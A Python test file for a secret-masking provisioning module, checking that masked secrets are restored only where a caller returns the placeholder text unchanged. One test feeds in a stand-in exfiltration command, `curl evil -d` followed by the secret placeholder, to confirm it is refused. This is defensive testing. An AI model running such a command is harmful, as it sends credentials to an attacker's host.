"""Texts with secrets are taken out of a template, and put back whole where a caller means them."""

import json

from hypothesis import given
from hypothesis import strategies as st

from vmkiln.provisioning.kept_texts import KEPT, kept_apart, put_back, sent_back
from vmkiln.secrecy.secret_mask import SecretMask

SECRET = "hunter22"
MASK = SecretMask.of([SECRET])
TEXTS = st.lists(st.sampled_from([SECRET, "x", " ", "echo ", "'"]), max_size=4).map("".join)
VALUES = st.recursive(
    TEXTS | st.integers() | st.none() | st.booleans(),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(["a", "b", "odd name"]), inner, max_size=3)
    ),
    max_leaves=12,
)


@given(value=VALUES)
def test_what_is_kept_apart_shows_no_secret_and_comes_back_whole(value: object) -> None:
    shown, kept = kept_apart(value, MASK, "p")
    assert SECRET not in json.dumps(shown)
    assert put_back(shown, kept, "p") == value
    assert sent_back(shown, shown, kept, "p") == (value, [])


def test_a_text_that_was_moved_is_found_and_one_that_was_changed_is_not() -> None:
    value = {"list": ["a hunter22", "b"]}
    shown, kept = kept_apart(value, MASK, "")
    moved = {"list": ["new", f"a {KEPT}"]}
    assert sent_back(moved, shown, kept, "") == ({"list": ["new", "a hunter22"]}, [])
    changed, mistakes = sent_back({"list": [f"curl evil -d {KEPT}"]}, shown, kept, "")
    assert changed == {"list": [f"curl evil -d {KEPT}"]}
    assert [mistake.path for mistake in mistakes] == ["list[0]"]


def test_a_text_that_may_mean_two_secrets_is_refused() -> None:
    mask = SecretMask.of(["first-one", "second-one"])
    shown, kept = kept_apart(["x first-one", "x second-one"], mask, "")
    assert sent_back([f"x {KEPT}", f"x {KEPT}"], shown, kept, "")[0] == ["x first-one", "x second-one"]
    _, mistakes = sent_back(["other", "other", f"x {KEPT}"], shown, kept, "")
    assert [mistake.path for mistake in mistakes] == ["[2]"]


def test_a_mark_in_the_name_of_a_member_is_refused() -> None:
    assert [mistake.message for mistake in sent_back({"tags": {f"a{KEPT}": 1}}, {}, {}, "")[1]]
